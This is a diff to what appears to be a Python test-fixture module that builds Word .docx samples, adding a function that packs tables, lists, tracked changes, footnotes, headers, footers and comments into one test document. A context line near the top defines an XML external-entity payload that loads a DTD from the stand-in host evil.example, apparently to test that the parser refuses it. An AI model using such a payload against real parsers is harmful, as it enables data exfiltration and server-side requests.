@@ -17,6 +17,27 @@ PARAMETER = '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]>'
 MIB = 1 << 20
 
 
+def rich() -> bytes:
+    """A guide with one of everything that is read: header, footer, notes, comments, lists, tables, fields, changes."""
+    content = with_body(
+        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>in a table</w:t></w:r></w:p>'
+        '</w:tc></w:tr></w:tbl><w:p><w:pPr><w:numPr><w:ilvl w:val="1"/><w:numId w:val="1"/></w:numPr></w:pPr>'
+        "<w:ins><w:r><w:t>new</w:t></w:r></w:ins><w:del><w:r><w:delText>old</w:delText></w:r></w:del>"
+        '<w:r><w:footnoteReference w:id="1"/></w:r><w:fldSimple w:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple>'
+        '<w:hyperlink w:anchor="a"><w:r><w:t>there</w:t></w:r></w:hyperlink><w:r><w:sym w:char="F0FC"/>'
+        "<w:br/><w:tab/><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r></w:p>"
+    )
+    for kind, root, inside in (
+        ("header", "hdr", line("above")),
+        ("footer", "ftr", line("below")),
+        ("footnotes", "footnotes", f'<w:footnote w:id="1">{line("a note")}</w:footnote>'),
+        ("comments", "comments", f'<w:comment w:id="1">{line("a remark")}</w:comment>'),
+    ):
+        text = f'<w:{root} xmlns:w="{papers.W}">{inside}</w:{root}>'
+        content = with_part(f"word/{kind}8.xml", text.encode(), kind=kind, content=content)
+    return content
+
+
 def in_part(part: str, insert: str) -> bytes:
     """`insert` in front of the root of a part that the guide has."""
     content = base()
